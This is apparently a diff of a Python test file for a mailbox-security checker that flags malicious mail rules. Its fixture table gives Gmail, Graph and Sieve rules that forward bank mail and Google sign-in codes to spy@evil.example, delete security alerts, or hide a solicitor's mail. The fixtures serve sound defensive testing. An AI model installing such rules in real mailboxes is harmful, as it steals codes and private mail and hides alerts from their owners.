@@ -4,9 +4,9 @@ from __future__ import annotations
 
 import pytest
 
-from checks.mail.gmail import filter_rule
-from checks.mail.graph import message_rule
-from checks.mail.judge import judge_mail, judge_rules, judge_settings
+from checks.mail.judge.mailbox import judge_mail
+from checks.mail.judge.rules import judge_rules
+from checks.mail.judge.settings import judge_settings
 from checks.mail.owner import Owner, normal_address
 from checks.mail.records import (
     AutoForwarding,
@@ -17,7 +17,9 @@ from checks.mail.records import (
     MailAccess,
     MailboxSettings,
 )
-from checks.mail.sieve_script import script_rules
+from checks.mail.sources.gmail import filter_rule
+from checks.mail.sources.graph import message_rule
+from checks.mail.sources.sieve_script import script_rules
 from cybercheck.advice import all_advice
 from cybercheck.pipeline.model import Severity
 
@@ -27,36 +29,70 @@ ARCHIVE = "AAMkARCHIVE="
 TABLE = {
     "forward a bank's mail": (
         {"id": "f1", "criteria": {"from": "bank.example"}, "action": {"forward": "spy@evil.example"}},
-        {"displayName": "x", "isEnabled": True, "conditions": {"senderContains": ["bank.example"]},
-         "actions": {"forwardTo": [{"emailAddress": {"address": "spy@evil.example"}}]}},
+        {
+            "displayName": "x",
+            "isEnabled": True,
+            "conditions": {"senderContains": ["bank.example"]},
+            "actions": {"forwardTo": [{"emailAddress": {"address": "spy@evil.example"}}]},
+        },
         'if address :contains "from" "bank.example" { redirect "spy@evil.example"; }',
         [("mail.rule.forwards-external", Severity.HIGH, "A rule forwards mail to spy@evil.example")],
     ),
     "bin security alerts": (
         {"id": "f2", "criteria": {"query": "security alert"}, "action": {"addLabelIds": ["TRASH"]}},
-        {"displayName": "y", "isEnabled": True, "conditions": {"subjectContains": ["security alert"]}, "actions": {"delete": True}},
+        {
+            "displayName": "y",
+            "isEnabled": True,
+            "conditions": {"subjectContains": ["security alert"]},
+            "actions": {"delete": True},
+        },
         'require "fileinto";\nif header :contains "subject" "security alert" { fileinto "Trash"; }',
         [("mail.rule.hides-security", Severity.URGENT, "A rule hides security mail")],
     ),
     "read and archive a solicitor's mail": (
-        {"id": "f3", "criteria": {"from": "office@solicitor.example"}, "action": {"removeLabelIds": ["INBOX", "UNREAD"]}},
-        {"displayName": "z", "isEnabled": True,
-         "conditions": {"fromAddresses": [{"emailAddress": {"address": "office@solicitor.example"}}]},
-         "actions": {"moveToFolder": ARCHIVE, "markAsRead": True}},
+        {
+            "id": "f3",
+            "criteria": {"from": "office@solicitor.example"},
+            "action": {"removeLabelIds": ["INBOX", "UNREAD"]},
+        },
+        {
+            "displayName": "z",
+            "isEnabled": True,
+            "conditions": {"fromAddresses": [{"emailAddress": {"address": "office@solicitor.example"}}]},
+            "actions": {"moveToFolder": ARCHIVE, "markAsRead": True},
+        },
         'if address :is "from" "office@solicitor.example" { fileinto "Archive"; addflag "\\\\Seen"; }',
         [("mail.rule.hides-sender", Severity.MEDIUM, "A rule hides mail from office@solicitor.example")],
     ),
     "forward sign-in codes": (
-        {"id": "f4", "criteria": {"from": "no-reply@accounts.google.com"}, "action": {"forward": "spy@evil.example"}},
-        {"displayName": "w", "isEnabled": True, "conditions": {"senderContains": ["no-reply@accounts.google.com"]},
-         "actions": {"forwardTo": [{"emailAddress": {"address": "spy@evil.example"}}]}},
+        {
+            "id": "f4",
+            "criteria": {"from": "no-reply@accounts.google.com"},
+            "action": {"forward": "spy@evil.example"},
+        },
+        {
+            "displayName": "w",
+            "isEnabled": True,
+            "conditions": {"senderContains": ["no-reply@accounts.google.com"]},
+            "actions": {"forwardTo": [{"emailAddress": {"address": "spy@evil.example"}}]},
+        },
         'require "copy";\nif header :contains "from" "no-reply@accounts.google.com" { redirect :copy "spy@evil.example"; }',
-        [("mail.rule.forwards-external", Severity.URGENT, "A rule forwards security mail to spy@evil.example")],
+        [
+            (
+                "mail.rule.forwards-external",
+                Severity.URGENT,
+                "A rule forwards security mail to spy@evil.example",
+            )
+        ],
     ),
     "an ordinary newsletter label": (
         {"id": "f5", "criteria": {"from": "news@shop.example"}, "action": {"addLabelIds": ["Label_7"]}},
-        {"displayName": "v", "isEnabled": True, "conditions": {"senderContains": ["news@shop.example"]},
-         "actions": {"moveToFolder": "AAMkSHOP="}},
+        {
+            "displayName": "v",
+            "isEnabled": True,
+            "conditions": {"senderContains": ["news@shop.example"]},
+            "actions": {"moveToFolder": "AAMkSHOP="},
+        },
         'if address :is "from" "news@shop.example" { fileinto "Shopping"; }',
         [],
     ),
@@ -64,7 +100,9 @@ TABLE = {
 
 
 def _findings(rules: object) -> list[tuple[str, Severity, str]]:
-    return sorted((f.code, f.severity, f.subject) for f in judge_rules(rules, owner=Owner.of(["sam@gmail.com"])))  # type: ignore[arg-type]
+    return sorted(
+        (f.code, f.severity, f.subject) for f in judge_rules(rules, owner=Owner.of(["sam@gmail.com"]))
+    )  # type: ignore[arg-type]
 
 
 @pytest.mark.parametrize("case", sorted(TABLE))
@@ -126,12 +164,18 @@ def test_settings_forwarding_pending_delegates_and_access() -> None:
         "mail.forwarding.hides-original",
         "mail.forwarding.pending",
     ]
-    assert "mail.access.sync-on" not in {f.code for f in judge_settings(settings, owner=Owner(), uses_mail_apps=True)}
+    assert "mail.access.sync-on" not in {
+        f.code for f in judge_settings(settings, owner=Owner(), uses_mail_apps=True)
+    }
 
 
 def test_every_code_the_judgement_can_give_has_advice() -> None:
     advice = all_advice()
-    codes = {f.code for case in TABLE.values() for f in judge_rules(list(script_rules(case[2], script="s", source="s")), owner=Owner())}
+    codes = {
+        f.code
+        for case in TABLE.values()
+        for f in judge_rules(list(script_rules(case[2], script="s", source="s")), owner=Owner())
+    }
     codes |= {c for c in advice if c.startswith("mail.")}
     missing = {c for c in codes if c not in advice}
     assert not missing
@@ -140,6 +184,8 @@ def test_every_code_the_judgement_can_give_has_advice() -> None:
 
 def test_judge_mail_joins_rules_and_settings() -> None:
     rule = filter_rule(TABLE["forward a bank's mail"][0], source="gmail", index=0)
-    settings = MailboxSettings(forwarding_addresses=(ForwardingAddress("spy@evil.example", ForwardingState.ACCEPTED, "api"),))
+    settings = MailboxSettings(
+        forwarding_addresses=(ForwardingAddress("spy@evil.example", ForwardingState.ACCEPTED, "api"),)
+    )
     codes = [f.code for f in judge_mail([rule], settings, owner=Owner())]
     assert codes == ["mail.rule.forwards-external"]  # the address is in use, so not also "ready"
